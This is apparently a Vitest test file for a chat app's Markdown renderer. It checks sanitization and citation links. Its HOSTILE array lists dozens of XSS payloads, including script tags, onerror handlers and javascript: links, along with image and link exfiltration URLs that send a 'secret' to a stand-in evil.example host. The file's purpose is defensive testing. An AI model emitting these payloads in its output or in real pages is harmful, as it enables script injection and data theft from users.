import { renderToStaticMarkup } from "react-dom/server";
import { StaticRouter } from "react-router-dom/server";
import { describe, expect, it } from "vitest";
import type { Citation } from "~/contract/chat";
import { CitationChip } from "~/ui/citation-chip";
import { Markdown } from "~/ui/markdown";

function render(text: string, options: { citations?: Citation[]; streaming?: boolean } = {}): string {
  return renderToStaticMarkup(
    <StaticRouter location="/">
      <Markdown text={text} {...options} />
    </StaticRouter>,
  );
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example/a)",
  "[x](/\\evil.example)",
  "[x](\\\\evil.example)",
  "[x](https://evil.example/?q=secret)",
  "[x]( https://evil.example )",
  "[x][1]\n\n[1]: https://evil.example",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "![x](https://evil.example/pixel.png?q=secret)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x][i]\n\n[i]: https://evil.example/p.png",
  "[![x](https://evil.example/p.png)](https://evil.example)",
  "<https://evil.example>",
  "https://evil.example/?q=secret",
  "www.evil.example",
  "<style>body{display:none}</style>",
  "<form action='https://evil.example'><input name=q></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<base href='https://evil.example'>",
  "<div style='background:url(https://evil.example)'>x</div>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<details open ontoggle=alert(1)>",
  "<video src=x onerror=alert(1)>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='https://evil.example'>",
  "# <img src=x onerror=alert(1)>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "- [x] <script>alert(1)</script>",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<!--><img src=x onerror=alert(1)>-->",
  '[x](/ok" onclick="alert(1))',
  '# id" onmouseover="alert(1)',
  "<textarea><script>alert(1)</script>",
  "<Foo onClick={alert(1)} />",
];

/** Ours, beside every block of code; it carries nothing of the text. */
const COPY_CODE =
  /<button type="button" class="\w+" data-slot="copy-button" data-state="ready" title="Copy code"><svg [^>]*>.*?<\/svg><span [^>]*>Copy code<\/span><\/button>/g;

it("a block of code has its own way to copy it, code within a line has none", () => {
  expect(render("```\ntrl = 6\n```").match(COPY_CODE)).toHaveLength(1);
  expect(render("`trl = 6`").match(COPY_CODE)).toBeNull();
});

describe("hostile text", () => {
  for (const streaming of [false, true]) {
    it(`brings no element, attribute or address of its own, ${streaming ? "streaming" : "at rest"}`, () => {
      for (const text of HOSTILE) {
        const html = render(text, { streaming }).replace(COPY_CODE, "");
        // What is left of a tag is text: with its brackets escaped.
        const tags = html.match(/<[^>]*>/g) ?? [];
        for (const tag of tags) {
          expect(tag, text).toMatch(
            /^<\/?(div|span|p|a|h3|h4|ul|ol|li|code|pre|table|thead|tbody|tr|th|td|section|strong|em|br|hr|footer|sup|del|blockquote)\b/,
          );
          expect(tag, text).not.toMatch(
            /\son\w+=|src=|srcset=|style="(?!text-align)|javascript:|evil\.example|\sid="[^"]/i,
          );
        }
      }
    });
  }
});

describe("citations", () => {
  const citation: Citation = {
    n: 1,
    technology_id: "0198a0de-0000-7000-8000-000000000001",
    title: "Printed stator",
    field: "summary",
    file_id: null,
    page: null,
    quote: "a coreless stator",
  };

  it("turn a known number into a link to the cited listing", () => {
    const html = render("It is coreless [1].", { citations: [citation] });
    expect(html).toContain(`/technology/${citation.technology_id}`);
  });

  it("name the file and the page that they open", () => {
    const html = renderToStaticMarkup(
      <StaticRouter location="/">
        <CitationChip
          citation={{ ...citation, field: null, file_id: "f", page: 3 }}
          file="report.pdf, page 3"
        />
      </StaticRouter>,
    );
    expect(html).toContain('aria-label="Source 1: report.pdf, page 3"');
    expect(html).toContain("report.pdf, page 3: “a coreless stator”");
  });

  it("leave an unknown number as text, and an address of the text's own without effect", () => {
    expect(render("See [7].", { citations: [citation] })).toContain("[7]");
    expect(render("[trust me](#citation-1)", { citations: [citation] })).not.toContain("/technology/");
  });
});

it("keeps links to our own pages, wraps tables, and lowers headings", () => {
  const html = render("# Title\n\n[open](/technology/x)\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  expect(html).toContain('href="/technology/x"');
  expect(html).toContain('aria-label="Table"');
  expect(html).toContain("<h3");
  expect(html).not.toContain("<h1");
});
